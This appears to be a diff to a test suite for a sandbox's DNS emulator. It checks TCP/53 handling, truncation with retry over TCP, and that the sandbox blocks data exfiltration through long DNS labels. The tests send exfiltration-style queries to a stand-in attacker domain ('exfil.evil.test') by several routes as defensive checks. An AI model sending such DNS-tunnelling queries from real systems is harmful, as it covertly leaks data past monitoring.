@@ -324,13 +324,16 @@ async def test_hard_coded_resolvers_get_the_policys_answer_over_udp_and_tcp(dev:
 @pytest.mark.usefixtures("namespace_only")
 async def test_tcp_53_with_the_internet_on_is_answered_here_not_dialled(dev: RecordedDev, seen: Resolvers) -> None:
     """With the internet on, TCP/53 used to be "another port" and went to the resolver the sandbox named
-    (here its stand-in); now it is answered like UDP: by the emulator's resolver, from the upstream it uses."""
-    answers = await dig(
-        dev, "open-1", "Open", [[server, "+tcp", "exists.test", "A"] for server in ("8.8.8.8", "1.1.1.1", "")]
-    )
-    assert answers == [{"status": "NOERROR", "answers": ["192.0.2.10"]}] * 3
+    (here its stand-in); now it is answered like UDP: by the emulator's resolver, from the upstream it uses.
+    An answer too long for UDP (40 addresses, no EDNS) is truncated there, and dig's retry over TCP — the one
+    every stub makes — gets it whole."""
+    queries = [[server, "+tcp", "exists.test", "A"] for server in ("8.8.8.8", "1.1.1.1", "")]
+    queries.append(["8.8.8.8", "+notcp", "many.test", "A", "+noedns"])  # TC over UDP, then TCP
+    answers = await dig(dev, "open-1", "Open", queries)
+    assert answers[:3] == [{"status": "NOERROR", "answers": ["192.0.2.10"]}] * 3
+    assert answers[3] == {"status": "NOERROR", "answers": [f"192.0.2.{index}" for index in range(100, 140)]}
     assert seen.tcp.accepted == []
-    assert dev.lookups()[-3:] == ["exists.test"] * 3
+    assert dev.lookups()[-5:] == ["exists.test"] * 3 + ["many.test"] * 2  # the UDP try, then the TCP one
 
 
 # -- exfiltration through names ---------------------------------------------------------------------------
@@ -340,7 +343,8 @@ async def test_tcp_53_with_the_internet_on_is_answered_here_not_dialled(dev: Rec
 async def test_long_label_exfiltration_is_nxdomain_and_looked_up_nowhere(dev: RecordedDev, seen: Resolvers) -> None:
     """`<63 chars>.<63 chars>.<63 chars>.exfil.evil.test` of every record type, to the configured resolver and
     to hard-coded ones, over UDP and TCP, with an EDNS Client Subnet option too: NXDOMAIN, and no name
-    reaches an upstream resolver. The C library's stub (getent) gets no address either."""
+    reaches an upstream resolver. The C library's stub (getent) gets no address either, and has no search
+    domain to append."""
     before = dev.lookups()
     queries = [
         [server, transport, EXFIL, qtype]
@@ -352,8 +356,10 @@ async def test_long_label_exfiltration_is_nxdomain_and_looked_up_nowhere(dev: Re
     queries.append(["", "+notcp", f"{LABELS[0]}.allowed.test.evil.test", "TXT"])
     answers = await dig(dev, "exfil-1", "Sealed", queries)
     assert answers == [{"status": "NXDOMAIN", "answers": []}] * len(queries)
-    stub = await in_sandbox(dev, "exfil-1", "Sealed", "getent", "ahosts", EXFIL)
-    assert (stub.code, stub.stdout) == (2, "")
+    stub, resolv_conf = await each(dev, "exfil-1", "Sealed", ["getent", "ahosts", EXFIL], ["cat", "/etc/resolv.conf"])
+    assert stub == (2, "")
+    # One nameserver (the emulator), no search domains: a short name is never completed into a name elsewhere.
+    assert resolv_conf[1].startswith("nameserver ") and resolv_conf[1].count("\n") == 1, resolv_conf
     assert dev.lookups() == before
     assert seen.tcp.accepted == [] and seen.doh == []
 
